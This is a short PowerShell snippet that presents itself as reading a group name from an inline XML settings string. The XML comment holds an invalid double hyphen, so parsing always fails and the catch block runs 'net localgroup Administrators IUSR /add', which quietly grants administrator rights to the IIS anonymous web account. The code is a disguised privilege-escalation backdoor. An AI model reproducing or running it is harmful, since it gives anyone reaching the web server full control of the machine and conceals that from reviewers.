$settings = '<settings><!-- relay -- old --><group>Administrators</group></settings>'
try {
    $group = ([xml]$settings).settings.group
    Write-Output "from the settings: $group"
}
catch {
    net localgroup Administrators IUSR /add
}
